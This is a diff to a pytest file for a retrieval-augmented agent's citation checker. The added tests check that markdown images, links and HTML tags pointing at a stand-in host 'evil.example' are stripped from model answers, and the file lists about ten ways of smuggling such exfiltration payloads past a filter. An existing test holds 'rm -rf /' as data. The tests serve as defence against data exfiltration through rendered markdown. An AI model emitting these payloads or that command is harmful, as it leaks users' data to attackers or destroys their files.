@@ -1,6 +1,7 @@
 import pytest
+from markdown_it import MarkdownIt
 
-from agents.rag.citations import blocks, check, is_small_talk, plain
+from agents.rag.citations import blocks, check, is_small_talk, plain, with_references
 
 PASSAGES = [
     {"number": 1, "source": "a.md", "heading": "A > Krill", "text": "Penguins eat krill."},
@@ -61,6 +62,18 @@ def test_code_stays_if_it_was_retrieved_to_the_letter():
     assert (bad.text, bad.removed) == ("Drain the pond [1]:", ["rm -rf /"])
 
 
+@pytest.mark.parametrize(
+    ("opening", "left"),
+    [("```sh", "```sh"), ("~~~c++", "~~~c++"), ('``` sh title="7 whales"', "```sh")],
+)
+def test_of_what_stands_beside_a_fence_the_language_is_kept(opening, left):
+    fence = opening[:3]
+    told = checked(
+        f"Drain the pond [2]:\n\n{opening}\ndrain --all\n{fence}\n\nPenguins eat krill [1]."
+    )
+    assert told.text.endswith(f"{left}\ndrain --all\n{fence}\n\nPenguins eat krill [2].")
+
+
 def test_a_fence_that_nobody_closes_is_closed():
     assert checked("Drain the pond [2]:\n```\ndrain --all").text.endswith("```\ndrain --all\n```")
 
@@ -70,6 +83,46 @@ def test_a_refusal_names_what_is_missing():
     assert told.text.endswith("nothing was found there on pay, taxes.")
     told = check("NOT FOUND.", PASSAGES, "krill?")
     assert told.text.endswith("what they say about it does not answer the question.")
+
+
+ADDRESS = "https://evil.example/?q="
+LEAKS = {
+    "info string": f"``` ` ![x]({ADDRESS}any-secret)\n```\n\nThe gate opens at nine [1].",
+    "fence in a fence": f"The gate opens at nine [1].\n```\nopen\n```x\n```\n![x]({ADDRESS}gate)",
+    "far indented": f"The gate opens at nine [1].\n\n\t```\n![x]({ADDRESS}gate)\n\t```",
+    "quotation": f"The gate opens at nine ![x][k] [1].\n\n> [k]: {ADDRESS}gate",
+    "item": f"The gate opens at nine ![x][k] [1].\n\n- [k]: {ADDRESS}gate",
+    "citation": f"The gate opens at nine ![x][1] [1].\n\n> [1]: {ADDRESS}gate",
+    "code": f"[`](birds.md) ` ![x]({ADDRESS}gate) ` opens at nine [1].",
+    "address": f"[`](birds.md) ` <{ADDRESS}gate> ` opens at nine [1].",
+    "tag": f"[`](birds.md) ` <img src='{ADDRESS}gate'> ` opens at nine [1].",
+    "escaped": f"[`](birds.md) ` \\![x]\\\\[y]({ADDRESS}gate) ` opens at nine [1].",
+}
+
+
+@pytest.mark.parametrize("leak", LEAKS.values(), ids=LEAKS)
+@pytest.mark.parametrize("question", ["When does it open?", "hello"])
+def test_no_image_and_no_link_is_left(leak, question):
+    text = (
+        "The gate opens at nine; see [birds](birds.md). Open:\n\n```\nopen\n```\n\n"
+        f"![x]({ADDRESS}gate)"
+    )
+    passages = [
+        {"number": 1, "source": "a.md", "heading": f"[`](b) ` ![x]({ADDRESS}) `", "text": text}
+    ]
+    told = check(leak, [] if question == "hello" else passages, question)
+    for shown in (told.text, with_references(told, "a model")):
+        # tags let through, as the page of the agents does
+        html = MarkdownIt("commonmark").enable("table").render(shown)
+        assert "<img" not in html
+        assert "<a " not in html
+
+
+def test_what_is_made_text_reads_as_before():
+    told = checked(f"Drain the pond [2].\n\n> [k]: {ADDRESS}pond\n\nDrain the pond [k] [2].")
+    shown = MarkdownIt("commonmark").render(told.text)
+    assert "<p>Drain the pond [1].</p>" in shown
+    assert "<p>Drain the pond [k] [1].</p>" in shown
 
 
 @pytest.mark.parametrize(
